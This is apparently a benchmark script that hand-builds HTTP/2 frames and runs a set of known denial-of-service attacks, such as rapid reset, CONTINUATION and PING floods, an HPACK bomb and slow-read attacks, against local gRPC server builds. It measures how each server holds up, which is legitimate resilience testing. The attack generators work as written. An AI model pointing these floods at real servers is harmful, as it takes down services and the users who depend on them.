"""Attacks HTTP/2 servers at their default settings: frpc with a `memory_max` of 64 MiB, tonic, grpc-go and hyper.

Each attack has a new server, 16 connections and a fixed pace. Connections that the server closes are opened again.
A witness at another address makes a small call every 20 ms. The program prints how each attack ends, processor time
and resident memory of the server from /proc, and the witness's latencies. It takes about ten seconds for each attack
and server. docs/performance/hostile.md contains a result.

    cargo build --release --manifest-path benches/rivals/Cargo.toml --features gateways --bin targets
    (cd benches/rivals/go && go build -o ../target/release/compare-go .)
    python3 benches/gateways/hostile.py
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import json
import math
import os
import re
import socket
import statistics
import struct
import subprocess
import sys
import time
from pathlib import Path
from typing import AsyncIterator, Callable, Iterator, NamedTuple

from compare import ROOT, cpu

CONNECTIONS = 16
TICK = 0.01
# Number of frames that a flood sends on each connection in each tick.
FRAMES = 256
# Number of streams of a connection, unless the server allows fewer.
STREAMS = 250
CALL_INTERVAL = 0.02
# Requests and replies with bodies of this length fit an initial window of HTTP/2.
BODY = 48_000

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 3, 4
CODES = "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED FRAME_SIZE_ERROR " \
    "REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM".split()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload) << 8 | kind)[:4] + struct.pack(">BI", flags, stream) + payload


def field(name: bytes, value: bytes, first: int = 0) -> bytes:
    """Encodes a header field whose name is an index of the static table (one byte) or shorter than 127 bytes."""
    length = bytes([len(value)]) if len(value) < 127 else b"\x7f" + varint(len(value) - 127)
    return (bytes([first | name[0]]) if len(name) == 1 else bytes([first, len(name)]) + name) + length + value


def varint(value: int) -> bytes:
    encoded = b""
    while value >= 128:
        encoded, value = encoded + bytes([value & 127 | 128]), value >> 7
    return encoded + bytes([value])


# POST and http from the static table, then four fields that enter the dynamic table.
INDEXING = 0x40
FIELDS = [
    (b"\x04", b"/benchmark.BenchmarkService/Benchmark"),
    (b"\x01", b"localhost"),
    (b"content-type", b"application/grpc"),
    (b"te", b"trailers"),
]
OPENING = b"\x83\x86" + b"".join(field(name, value, INDEXING) for name, value in FIELDS)
# The same request without entries in the dynamic table.
PLAIN = b"\x83\x86" + b"".join(field(name, value) for name, value in FIELDS)
# The same request from the table, in which the newest field is the first.
REQUEST = b"\x83\x86\xc1\xc0\xbf\xbe"


def message(text: bytes) -> bytes:
    protobuf = b"\x0a" + varint(len(text)) + text
    return b"\0" + struct.pack(">I", len(protobuf)) + protobuf


def body(stream: int, content: bytes, flags: int) -> bytes:
    parts = [content[at : at + 16_384] for at in range(0, len(content), 16_384)]
    return b"".join(frame(DATA, flags if part is parts[-1] else 0, stream, part) for part in parts)


class Batch(NamedTuple):
    """Frames to be sent in one tick, when the windows of the stream and of the connection have this many bytes."""

    frames: bytes
    cost: int = 0
    stream: int = 0


class Attack(NamedTuple):
    # Gets the duration in ticks.
    batches: Callable[[int], Iterator[Batch]]
    settings: bytes = b""
    # The attack opens as many streams as the server allows, one in each batch.
    fills: bool = False
    # Frames that follow the last batch. From then on, the attacker reads 4 KiB every 100 ms.
    last: bytes = b""


def ids(ticks: int, streams: int) -> Iterator[range]:
    """Yields the ids of the streams of each tick."""
    return (range(2 * tick * streams + 1, 2 * (tick + 1) * streams + 1, 2) for tick in range(ticks))


def rapid_reset(ticks: int, last: bytes = b"\0\0\0\x08", kind: int = RST_STREAM) -> Iterator[Batch]:
    for streams in ids(ticks, FRAMES // 2):
        blocks = ((stream, OPENING if stream == 1 else REQUEST) for stream in streams)
        yield Batch(b"".join(frame(HEADERS, END_HEADERS, id, block) + frame(kind, 0, id, last) for id, block in blocks))


def repeated(start: bytes, part: bytes, cost: int = 0) -> Callable[[int], Iterator[Batch]]:
    def batches(ticks: int) -> Iterator[Batch]:
        yield Batch(start)
        yield from [Batch(part * FRAMES, cost * FRAMES, 1)] * ticks

    return batches


def priorities(ticks: int) -> Iterator[Batch]:
    for streams in ids(ticks, FRAMES):
        yield Batch(b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in streams))


def bombs(ticks: int) -> Iterator[Batch]:
    """Each request refers 4000 times to a field of 4000 bytes."""
    insert = field(b"xx", b"x" * 4000, INDEXING)
    for (stream,) in ids(ticks, 1):
        block = PLAIN + (insert if stream == 1 else b"") + b"\xbe" * 4000
        yield Batch(frame(HEADERS, END_HEADERS, stream, block))


def long_lists(ticks: int) -> Iterator[Batch]:
    """Each request has 32 KiB of header fields."""
    fields = field(b"xx", b"x" * 995) * 16
    for (stream,) in ids(ticks, 1):
        head = frame(HEADERS, END_STREAM, stream, OPENING if stream == 1 else REQUEST)
        yield Batch(head + frame(CONTINUATION, 0, stream, fields) + frame(CONTINUATION, END_HEADERS, stream, fields))


def requests(content: bytes, flags: int) -> Callable[[int], Iterator[Batch]]:
    """Requests with a body, one on each stream."""

    def batches(_ticks: int) -> Iterator[Batch]:
        for (stream,) in ids(STREAMS, 1):
            head = frame(HEADERS, END_HEADERS, stream, OPENING if stream == 1 else REQUEST)
            yield Batch(head + body(stream, content, flags), len(content), stream)

    return batches


HEAD = frame(HEADERS, END_HEADERS, 1, OPENING)
NO_WINDOW, ONE_WINDOW, OPEN_WINDOW = (struct.pack(">HI", INITIAL_WINDOW_SIZE, of) for of in (0, 65_535, 2**31 - 1))
OPEN_WINDOWS = frame(SETTINGS, 0, 0, OPEN_WINDOW) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535))
LONG_REPLY = message(b"x" * (BODY - 9))

ATTACKS = {
    "none": Attack(lambda _ticks: iter(())),
    "rapid reset": Attack(rapid_reset),
    "resets by the server": Attack(lambda ticks: rapid_reset(ticks, bytes(4), WINDOW_UPDATE)),
    "CONTINUATION flood": Attack(
        repeated(frame(HEADERS, 0, 1, OPENING), frame(CONTINUATION, 0, 1, field(b"xx", b"x" * 16)))
    ),
    "SETTINGS flood": Attack(repeated(b"", frame(SETTINGS, 0, 0, ONE_WINDOW))),
    "PING flood": Attack(repeated(b"", frame(PING, 0, 0, b"12345678"))),
    "PRIORITY flood": Attack(priorities),
    "empty DATA frames": Attack(repeated(HEAD, frame(DATA, 0, 1, b""))),
    "DATA frames of one byte": Attack(
        repeated(HEAD + frame(DATA, 0, 1, struct.pack(">BI", 0, 4_000_000)), frame(DATA, 0, 1, b"\0"), 1)
    ),
    "HPACK bomb": Attack(bombs),
    "header lists of 32 KiB": Attack(long_lists),
    "half bodies of 48 KB": Attack(requests(LONG_REPLY[:-1], 0), fills=True),
    "replies of 48 KB, windows of zero": Attack(requests(LONG_REPLY, END_STREAM), NO_WINDOW, fills=True),
    "replies of 48 KB, read slowly": Attack(requests(LONG_REPLY, END_STREAM), NO_WINDOW, True, OPEN_WINDOWS),
}

# Runs of acknowledgements, which are too many to be parsed one by one.
ACKS = re.compile(rb"(?:\0\0\x08\x06\x01.{12}|\0\0\0\x04\x01.{4})+", re.DOTALL)


class Peer:
    """The client's end of an HTTP/2 connection."""

    def __init__(self) -> None:
        self.windows = {0: 65_535}
        self.initial_window, self.streams_max = 65_535, STREAMS
        self.settled, self.updated = asyncio.Event(), asyncio.Event()
        self.reason = ""
        self.is_slow = False
        self.input = bytearray()

    async def connect(self, host: str, port: int, settings: bytes) -> None:
        connection = socket.socket()
        # Small buffers, so that unread bytes wait in the server or count as not sent.
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        connection.setblocking(False)
        connection.bind((host, 0))
        loop = asyncio.get_running_loop()
        await asyncio.wait_for(loop.sock_connect(connection, ("127.0.0.1", port)), 2)
        self.reader, self.writer = await asyncio.open_connection(sock=connection)
        self.writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    async def frames(self) -> AsyncIterator[tuple[int, int, int, bytes]]:
        """Reads until the connection is closed. Yields HEADERS, DATA and RST_STREAM."""
        while received := await self.reader.read(4096 if self.is_slow else 1 << 18):
            self.input += received
            at = 0
            while len(self.input) >= at + 9:
                if acks := ACKS.match(self.input, at):
                    at = acks.end()
                    continue
                length = int.from_bytes(self.input[at : at + 3], "big")
                kind, flags, stream = struct.unpack_from(">BBI", self.input, at + 3)
                if len(self.input) < at + 9 + length:
                    break
                payload = bytes(self.input[at + 9 : at + 9 + length])
                at += 9 + length
                if kind in (HEADERS, DATA, RST_STREAM):
                    yield kind, flags, stream, payload
                else:
                    self.handle(kind, flags, stream, payload)
            del self.input[:at]
            if self.is_slow:
                await asyncio.sleep(0.1)

    def handle(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            values = dict(struct.iter_unpack(">HI", payload))
            self.streams_max = min(values.get(MAX_CONCURRENT_STREAMS, STREAMS), STREAMS)
            self.initial_window = values.get(INITIAL_WINDOW_SIZE, self.initial_window)
            self.writer.write(frame(SETTINGS, ACK, 0, b""))
            self.settled.set()
        elif kind == WINDOW_UPDATE:
            self.windows[stream] = self.window(stream) + int.from_bytes(payload, "big")
            self.updated.set()
        elif kind == GOAWAY:
            self.reason = CODES[int.from_bytes(payload[4:8], "big")]

    def window(self, stream: int) -> int:
        return self.windows.get(stream, self.initial_window)

    async def send(self, batch: Batch) -> None:
        while batch.cost > min(self.window(0), self.window(batch.stream)):
            self.updated.clear()
            await self.updated.wait()
        if batch.cost:
            self.windows[0] -= batch.cost
            self.windows[batch.stream] = self.window(batch.stream) - batch.cost
        self.writer.write(batch.frames)
        await self.writer.drain()


async def strike(name: str, port: int, seconds: float) -> None:
    """Attacks, and prints the outcome as JSON."""
    # Attackers have their own machines in production, so they take only the processor time that is left.
    os.nice(10)
    attack = ATTACKS[name]
    batches = list(attack.batches(round(seconds / TICK)))
    print("ready", flush=True)
    sys.stdin.readline()
    until = time.monotonic() + seconds
    closed: list[tuple[float, str]] = []
    sent, resets = collections.Counter[int](), collections.Counter[str]()

    async def read(peer: Peer) -> None:
        async for kind, _flags, _stream, payload in peer.frames():
            if kind == RST_STREAM:
                resets[CODES[int.from_bytes(payload, "big")]] += 1
        raise ConnectionError("closed")

    async def write(number: int, peer: Peer) -> None:
        await asyncio.wait_for(peer.settled.wait(), 2)
        started = time.monotonic()
        for tick, batch in enumerate(batches[: peer.streams_max] if attack.fills else batches):
            await asyncio.sleep(max(started + tick * TICK - time.monotonic(), 0))
            await peer.send(batch)
            sent[number] += 1
        peer.is_slow = bool(attack.last)
        await peer.send(Batch(attack.last))
        await asyncio.Event().wait()

    async def one(number: int) -> None:
        while True:
            peer, started = Peer(), time.monotonic()
            try:
                await peer.connect("127.0.0.2", port, attack.settings)
                tasks = [asyncio.ensure_future(read(peer)), asyncio.ensure_future(write(number, peer))]
                try:
                    await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
                    lifetime = time.monotonic() - started
                    # A GOAWAY may still be unread.
                    await asyncio.wait(tasks[:1], timeout=0.05)
                finally:
                    for task in tasks:
                        task.cancel()
                    await asyncio.gather(*tasks, return_exceptions=True)
                    peer.writer.transport.abort()
                closed.append((lifetime, peer.reason))
            except (OSError, asyncio.TimeoutError) as error:
                closed.append((time.monotonic() - started, f"no connection: {type(error).__name__}"))
            await asyncio.sleep(TICK)

    attackers = [asyncio.ensure_future(one(number)) for number in range(CONNECTIONS)]
    await asyncio.sleep(until - time.monotonic())
    print(json.dumps({"closed": closed, "sent": sum(sent.values()), "resets": resets}), flush=True)
    os._exit(0)


class Witness:
    """Makes calls at fixed times, and samples the server's memory."""

    def __init__(self, port: int, process: int) -> None:
        self.port, self.process = port, process
        self.text = b"witness"
        self.calls = 0
        self.latencies: list[float] = []
        self.most = 0.0

    def resident(self) -> float:
        """Returns the resident memory in MiB."""
        pages = int(Path(f"/proc/{self.process}/statm").read_text().split()[1])
        return pages * os.sysconf("SC_PAGE_SIZE") / (1 << 20)

    async def read(self, peer: Peer, pending: dict[int, float]) -> None:
        answered = set()
        async for kind, flags, stream, payload in peer.frames():
            if kind == DATA and self.text in payload:
                answered.add(stream)
            if kind != RST_STREAM and flags & END_STREAM and stream in answered and stream in pending:
                self.latencies.append(time.monotonic() - pending.pop(stream))

    async def call(self, seconds: float) -> None:
        """Calls for so long. A call without a reply within a second after that has failed."""
        content, started = message(self.text), time.monotonic()
        connections: list[tuple[Peer, asyncio.Task[None]]] = []
        for number in range(round(seconds / CALL_INTERVAL)):
            at = started + number * CALL_INTERVAL
            await asyncio.sleep(max(at - time.monotonic(), 0))
            self.calls += 1
            self.most = max(self.most, self.resident())
            if not connections or connections[-1][1].done():
                if time.monotonic() > at + 1:
                    continue
                peer, pending, stream = Peer(), {}, 1
                try:
                    await peer.connect("127.0.0.3", self.port, b"")
                except (OSError, asyncio.TimeoutError):
                    continue
                connections.append((peer, asyncio.ensure_future(self.read(peer, pending))))
            block = OPENING if stream == 1 else REQUEST
            pending[stream] = at
            peer.writer.write(frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, content))
            stream += 2
        until = time.monotonic() + 1
        while time.monotonic() < until and len(self.latencies) < self.calls:
            await asyncio.sleep(0.01)
        for peer, reading in connections:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)
            peer.writer.transport.abort()


@contextlib.contextmanager
def served(command: list[str]) -> Iterator[tuple[subprocess.Popen[str], int]]:
    """Starts a server that prints its address, and stops it at the end of the block. Yields its process and port."""
    pipe = subprocess.PIPE
    server = subprocess.Popen(command, stdin=pipe, stdout=pipe, stderr=subprocess.DEVNULL, text=True)
    try:
        line = server.stdout.readline()
        if not line.startswith("listening "):
            sys.exit(f"no server: {' '.join(command)}")
        yield server, int(line.rpartition(":")[2])
    finally:
        server.kill()
        server.wait()


async def measure(command: list[str], name: str, seconds: float) -> list[str]:
    """Returns the cells of the three tables."""
    with served(command) as (server, port):
        await Witness(port, server.pid).call(0.5)
        witness = Witness(port, server.pid)
        idle = witness.resident()
        attacker = subprocess.Popen(
            [sys.executable, __file__, "--attack", name, "--port", str(port), "--seconds", str(seconds)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )
        try:
            attacker.stdout.readline()
            used = cpu(server.pid)
            attacker.stdin.write("\n")
            attacker.stdin.flush()
            await witness.call(seconds)
            used = cpu(server.pid) - used
            result = json.loads(attacker.communicate(timeout=20)[0])
            end = ending(name, result, seconds) if server.poll() is None else "the server exited"
        finally:
            attacker.kill()
            attacker.wait()
    latencies = sorted(witness.latencies)
    p99 = latencies[len(latencies) * 99 // 100] * 1e3 if latencies else math.inf
    failed = witness.calls - len(latencies)
    return [end, f"{used:.2f} s; {idle:.0f} to {witness.most:.0f} MiB", f"{p99:.1f} ms; {failed} of {witness.calls}"]


def ending(name: str, result: dict, seconds: float) -> str:
    if name == "none":
        return "-"
    parts = []
    if closed := result["closed"]:
        # The GOAWAY is lost if the server closes a connection whose input it has not read.
        reasons = collections.Counter(reason for _, reason in closed if reason).most_common(1) or [("no GOAWAY", 0)]
        after = statistics.median(time for time, _ in closed)
        parts.append(f"closed {len(closed)} times, after {after:.2f} s, {reasons[0][0]}")
    if ATTACKS[name].fills:
        parts.append(f"{result['sent']} requests taken")
    elif not closed or after > 0.5:
        parts.append(f"{min(result['sent'] * TICK / CONNECTIONS / seconds, 1):.0%} taken")
    parts += [f"{count} streams reset with {code}" for code, count in result["resets"].items()]
    return "; ".join(parts)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=8.0, help="of each attack")
    parser.add_argument("--only", default="", help="part of the names of attacks")
    parser.add_argument("--servers", default="frpc,tonic,grpc-go,hyper")
    parser.add_argument("--programs", type=Path, default=ROOT / "benches/rivals/target/release")
    parser.add_argument("--attack", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    arguments = parser.parse_args()
    if arguments.attack:
        return asyncio.run(strike(arguments.attack, arguments.port, arguments.seconds))
    commands = {name: [str(arguments.programs / "targets"), name] for name in ["frpc", "tonic", "hyper"]}
    commands["grpc-go"] = [str(arguments.programs / "compare-go"), "serve", "grpc-go", "--defaults"]
    servers = arguments.servers.split(",")
    tables: list[list[list[str]]] = [[], [], []]
    for name in ATTACKS:
        if arguments.only in name:
            cells = []
            for server in servers:
                cells.append(asyncio.run(measure(commands[server], name, arguments.seconds)))
                print(name, server, *cells[-1], sep=" | ", file=sys.stderr, flush=True)
            for table, row in zip(tables, zip(*cells)):
                table.append([name, *row])
    for title, table in zip(["how it ends", "processor time; memory", "p99 and failed calls of the witness"], tables):
        print(f"\n| {title} | {' | '.join(servers)} |\n|---{'|---' * len(servers)}|")
        for row in table:
            print(f"| {' | '.join(row)} |")


if __name__ == "__main__":
    main()
